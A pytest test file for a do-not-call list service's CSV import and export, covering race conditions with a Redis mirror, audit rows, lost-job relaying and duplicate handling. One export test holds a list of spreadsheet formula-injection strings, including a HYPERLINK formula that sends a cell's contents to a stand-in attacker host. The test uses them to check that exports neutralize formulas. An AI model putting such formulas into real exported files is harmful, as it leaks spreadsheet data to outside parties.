"""A CSV import changes the list through the same path as every other write: the mirror lock,
a ``mirror.sync`` change, a ``dnc.add`` audit row per number; a lost import is picked up again
or failed, and a failed inline import leaves nothing behind."""

import asyncio
import csv
import io
import time
from collections.abc import AsyncIterator, Awaitable, Callable, Sequence
from dataclasses import replace
from typing import Any
from uuid import UUID

import asyncpg
import httpx
import pytest
from litestar.testing import AsyncTestClient

from app.asgi import create_app
from domain.usecases.mirror_sync import settle
from infra.db.copy import stage_import, staging_table
from infra.db.imports import process_import
from infra.db.uow import create_engine
from infra.redis.mirror import RedisMirror
from infra.settings import Settings
from jobs.worker import IMPORT_MAX_ATTEMPTS, relay_imports, resources_of, shutdown, startup
from tests.support.helpers import (
    Client,
    Org,
    arq_for,
    body,
    mirror_for,
    new_org,
    run_worker,
    sql,
)
from tests.support.processes import served_in_thread
from tests.support.servers import PrivateRedis

CSV = {"Content-Type": "text/csv"}
NUMBER = "12125550199"
AnyClient = Client | httpx.AsyncClient


async def until(predicate: Callable[[], Awaitable[bool]], seconds: float = 30) -> None:
    deadline = time.monotonic() + seconds
    while not await predicate():
        if time.monotonic() > deadline:
            raise AssertionError(f"not within {seconds} s")
        await asyncio.sleep(0.02)


async def upload(
    client: Client | httpx.AsyncClient, org: Org, text: str
) -> tuple[int, dict[str, Any]]:
    response = await client.post(
        "/api/dnc/import", content=text.encode(), headers={**org.headers, **CSV}
    )
    return response.status_code, body(response)


async def answers(
    client: Client | httpx.AsyncClient, org: Org, mirror: RedisMirror, number: str
) -> list[bool]:
    """Whether GET /check, POST /check and the direct Redis script block the number."""
    got = body(
        await client.get("/api/dnc/check", params={"phoneNumber": number}, headers=org.headers)
    )["data"]["blocked"]
    posted = body(
        await client.post("/api/dnc/check", json={"phoneNumbers": [number]}, headers=org.headers)
    )["data"]["results"][0]["blocked"]
    direct = await mirror.check(org.id, [number])
    return [got, posted, direct.ready and direct.listed[0]]


async def test_a_remove_synced_while_an_import_commits_cannot_unblock_the_imported_number(
    settings: Settings, org: Org, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The interleaving that lost a number: a remove commits, the import lists the number again
    and writes Redis, the remove's sync reads Postgres (not the import's commit yet) and takes
    the number out of Redis, the import commits. Listed in Postgres, callable in Redis."""
    with served_in_thread(settings) as url:
        async with httpx.AsyncClient(base_url=url, timeout=60) as client:
            await _interleave(settings, client, org, monkeypatch)


async def _interleave(
    settings: Settings, client: httpx.AsyncClient, org: Org, monkeypatch: pytest.MonkeyPatch
) -> None:
    await client.post(
        "/api/dnc/bulk-add", json={"numbers": [{"phoneNumber": NUMBER}]}, headers=org.headers
    )
    go = asyncio.Event()

    async def held_settle(*args: Any) -> bool:
        await go.wait()
        return await settle(*args)

    monkeypatch.setattr("domain.usecases.entries.settle", held_settle)
    remove = asyncio.create_task(
        client.post("/api/dnc/remove", json={"phoneNumber": NUMBER}, headers=org.headers)
    )

    async def tombstoned() -> bool:
        rows = await sql(
            settings,
            "SELECT 1 FROM dnc_entries WHERE phone_number = $1 AND removed_at IS NOT NULL",
            NUMBER,
        )
        return bool(rows)

    await until(tombstoned)  # the remove is committed; its sync waits for `go`
    apply = RedisMirror.apply

    async def waiting_on_a_lock() -> bool:
        rows = await sql(
            settings,
            "SELECT 1 FROM pg_locks WHERE locktype = 'advisory' AND NOT granted "
            "AND database = (SELECT oid FROM pg_database WHERE datname = current_database())",
        )
        return bool(rows)

    async def apply_then_let_the_remove_sync(
        self: RedisMirror, organization_id: UUID, add: Sequence[str] = (), *args: Any
    ) -> bool:
        done = await apply(self, organization_id, add, *args)
        if NUMBER in add and not go.is_set():  # the import's write, before its commit
            go.set()  # the remove's sync runs as far as it can: to its end, or to a lock

            async def stopped() -> bool:
                return remove.done() or await waiting_on_a_lock()

            await until(stopped)
        return done

    monkeypatch.setattr(RedisMirror, "apply", apply_then_let_the_remove_sync)
    code, payload = await upload(client, org, f"phoneNumber\n{NUMBER}\n")
    assert code == 200, payload
    assert payload["data"]["added"] == 1
    assert (await remove).status_code == 200
    assert go.is_set()
    async with mirror_for(settings) as mirror:
        assert await answers(client, org, mirror, NUMBER) == [True, True, True]


async def test_each_number_of_a_bulk_add_and_an_import_has_its_audit_row(
    client: Client, org: Org
) -> None:
    await client.post(
        "/api/dnc/bulk-add",
        json={"numbers": [{"phoneNumber": "2125550101", "type": "t1"}, {"phoneNumber": "bad"}]},
        headers=org.headers,
    )
    code, payload = await upload(
        client,
        org,
        "phoneNumber,type,expiresAt\n2125550102,t2,2031-01-01T00:00:00Z\n2125550101,,\n",
    )
    assert code == 200, payload
    import_id = payload["data"]["importId"]

    async def audit(**params: str) -> list[dict[str, Any]]:
        response = await client.get("/api/dnc/audit", params=params, headers=org.headers)
        items: list[dict[str, Any]] = body(response)["data"]["items"]
        return items

    bulk_row, import_row = (
        await audit(phoneNumber="2125550101"),
        await audit(phoneNumber="+1 212 555 0102"),
    )
    assert [(r["action"], r["phoneNumber"]) for r in bulk_row] == [("dnc.add", "12125550101")]
    assert bulk_row[0]["after"] == {"type": "t1", "source": "bulk", "expiresAt": None}
    entry = body(await client.get("/api/dnc/entries/12125550101", headers=org.headers))["data"]
    assert bulk_row[0]["entityId"] == entry["id"]
    assert [r["action"] for r in import_row] == ["dnc.add"]  # the duplicate has none
    assert import_row[0]["after"] == {
        "type": "t2", "source": "import", "importId": import_id,
        "expiresAt": "2031-01-01T00:00:00.000000Z",
    }  # fmt: skip
    actions = [r["action"] for r in await audit()]
    assert actions[:4] == ["dnc.import", "dnc.add", "dnc.bulk_add", "dnc.add"]  # summaries kept


INJECTED = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+SUM(1,2)",
    "-1+1",
    "@SUM(A1:A2)",
    "'quoted",
    "''",
    "'",
    "'=already",
    "plain, with a comma",
]


async def test_an_export_neutralizes_formulas_and_imports_back_unchanged(
    settings: Settings, client: Client, org: Org, other_org: Org
) -> None:
    numbers = [{"phoneNumber": f"212555{1000 + i}", "type": t} for i, t in enumerate(INJECTED)]
    response = await client.post(
        "/api/dnc/bulk-add", json={"numbers": numbers}, headers=org.headers
    )
    assert response.status_code == 200, response.text
    # the API strips spaces around a type, so a tab or a CR first is only in older rows
    for number, value in (("2125552000", "\t=1+2"), ("2125552001", "\r=1+2")):
        await client.post(
            "/api/dnc/bulk-add", json={"numbers": [{"phoneNumber": number}]}, headers=org.headers
        )
        await sql(
            settings,
            "UPDATE dnc_entries SET type = $2 WHERE phone_number = $1",
            "1" + number,
            value,
        )
    exported = (await client.get("/api/dnc/export", headers=org.headers)).text
    cells = [row["type"] for row in csv.DictReader(io.StringIO(exported))]
    assert sorted(cells) == sorted(
        ["'" + t if t[0] in "=+-@'" else t for t in INJECTED] + ["'\t=1+2", "'\r=1+2"]
    )  # what a spreadsheet reads: no cell starts with a formula character
    for line in exported.split("\n")[1:-1]:  # (a CR inside a quoted cell is no line end)
        assert line.split(",")[1].startswith('"'), line  # and every type cell is quoted
    code, payload = await upload(client, other_org, exported)
    assert code == 200, payload
    # Types are one line of text now: the two older rows' tab and CR make them invalid there
    assert (payload["data"]["added"], payload["data"]["invalid"]) == (len(INJECTED), 2)
    assert all("one line" in e["error"] for e in payload["data"]["errors"])

    async def types(of: Org) -> dict[str, str]:
        listed = body(await client.get("/api/dnc/list", params={"limit": 100}, headers=of.headers))
        return {i["phoneNumber"]: i["type"] for i in listed["data"]["items"]}

    older = {"12125552000", "12125552001"}
    assert await types(other_org) == {n: t for n, t in (await types(org)).items() if n not in older}
    assert sorted((await types(other_org)).values()) == sorted(INJECTED)


async def _relay_ctx(settings: Settings, arq: Any) -> dict[str, Any]:
    ctx: dict[str, Any] = {"settings": settings, "redis": arq}
    await startup(ctx)
    return ctx


async def test_the_relay_runs_an_import_whose_job_was_lost(
    settings: Settings, client: Client, org: Org
) -> None:
    async with arq_for(settings) as arq, mirror_for(settings) as mirror:
        ctx = await _relay_ctx(settings, arq)
        try:
            lost, _rows = await stage_import(
                resources_of(ctx).engine, org.id, org.admin_id, _body(f"phoneNumber\n{NUMBER}\n")
            )  # staged, but never enqueued (the API process died, or Redis refused the job)
            assert await relay_imports(ctx) == 1
            assert await relay_imports(ctx) == 0  # its job is queued now: not twice
            await run_worker(settings)
            status = body(await client.get(f"/api/dnc/imports/{lost}", headers=org.headers))
            assert (status["data"]["status"], status["data"]["added"]) == ("done", 1)
            assert await answers(client, org, mirror, NUMBER) == [True, True, True]
            assert await sql(settings, "SELECT to_regclass($1) t", staging_table(lost)) == [(None,)]
        finally:
            await shutdown(ctx)


async def test_the_relay_fails_an_import_lost_too_often_or_whose_rows_are_gone(
    settings: Settings, client: Client, org: Org
) -> None:
    async with arq_for(settings) as arq:
        ctx = await _relay_ctx(settings, arq)
        try:
            engine = resources_of(ctx).engine
            gone, _ = await stage_import(engine, org.id, None, _body("phoneNumber\n2125550101\n"))
            await sql(settings, f"DROP TABLE {staging_table(gone)}")
            again, _ = await stage_import(engine, org.id, None, _body("phoneNumber\n2125550102\n"))
            queue = resources_of(ctx).queue
            for _ in range(IMPORT_MAX_ATTEMPTS):
                assert await relay_imports(ctx) == 1
                await arq.delete(f"arq:job:{settings.redis_prefix}:import:{again}")
                await arq.zrem(queue.settings.queue_name, f"{settings.redis_prefix}:import:{again}")
            assert await relay_imports(ctx) == 0
            for import_id, fragment in ((gone, "staged rows are gone"), (again, "vanished 4")):
                data = body(await client.get(f"/api/dnc/imports/{import_id}", headers=org.headers))
                assert data["data"]["status"] == "failed"
                assert fragment in data["data"]["failure"]
            assert await sql(settings, "SELECT to_regclass($1) t", staging_table(again)) == [
                (None,)
            ]
        finally:
            await shutdown(ctx)


async def _body(text: str) -> Any:
    yield text.encode()


@pytest.mark.single_redis
async def test_an_inline_import_that_fails_leaves_no_staging_table_and_says_why(
    settings: Settings, private_redis: PrivateRedis
) -> None:
    own = replace(settings, redis_url=private_redis.url)
    org = await new_org(own, "Failing imports")
    async with AsyncTestClient(app=create_app(own)) as client:
        private_redis.stop()  # the mirror cannot take the import's numbers
        code, payload = await upload(client, org, "phoneNumber\n2125550101\n")
        assert code == 503, payload
        rows = await sql(settings, "SELECT id, status, failure FROM imports")
        assert [r["status"] for r in rows] == ["failed"]
        assert "Unavailable" in rows[0]["failure"]
        assert await sql(settings, "SELECT to_regclass($1) t", staging_table(rows[0]["id"])) == [
            (None,)
        ]
        listed = await sql(settings, "SELECT 1 FROM dnc_entries")
        assert listed == []


async def test_a_number_listed_on_another_path_during_the_insert_is_a_duplicate(
    settings: Settings, org: Org
) -> None:
    """The import inserts without ON CONFLICT, having left out what is listed; a writer that
    lists one of its numbers meanwhile (here: an uncommitted entry, committed while the
    import waits on it) makes it insert again with ON CONFLICT: that number is a duplicate,
    the others are listed, and the import is done."""
    other = await asyncpg.connect(settings.database_url)
    engine = create_engine(settings, "dnc-tests")
    try:
        writer = other.transaction()
        await writer.start()
        await other.execute(
            "INSERT INTO dnc_entries (id, organization_id, phone_number, source) "
            "VALUES (gen_random_uuid(), $1, $2, 'bulk')",
            org.id, NUMBER,
        )  # fmt: skip
        async with mirror_for(settings) as mirror:
            staged, _ = await stage_import(
                engine, org.id, None, lines(f"phoneNumber\n{NUMBER}\n2125550198\n")
            )
            running = asyncio.create_task(process_import(engine, mirror, staged, None))

            async def waiting() -> bool:
                return bool(
                    await sql(
                        settings,
                        "SELECT 1 FROM pg_stat_activity WHERE datname = current_database() "
                        "AND wait_event_type = 'Lock' AND query LIKE '%INSERT INTO dnc_entries%'",
                    )
                )

            await until(waiting)
            await writer.commit()
            report = await running
            assert (report.added, report.duplicate, report.invalid) == (1, 1, 0)
            assert list((await mirror.check(org.id, ["12125550198"])).listed) == [True]
        listed = await sql(
            settings,
            "SELECT phone_number, source FROM dnc_entries WHERE organization_id = $1 "
            "AND removed_at IS NULL ORDER BY phone_number",
            org.id,
        )
        assert [tuple(r) for r in listed] == [("12125550198", "import"), (NUMBER, "bulk")]
        audited = await sql(
            settings,
            "SELECT phone_number FROM audit_log WHERE organization_id = $1 AND action = 'dnc.add'",
            org.id,
        )
        assert [r[0] for r in audited] == ["12125550198"]
    finally:
        await other.close()
        await engine.dispose()


async def lines(text: str) -> AsyncIterator[bytes]:
    yield text.encode()
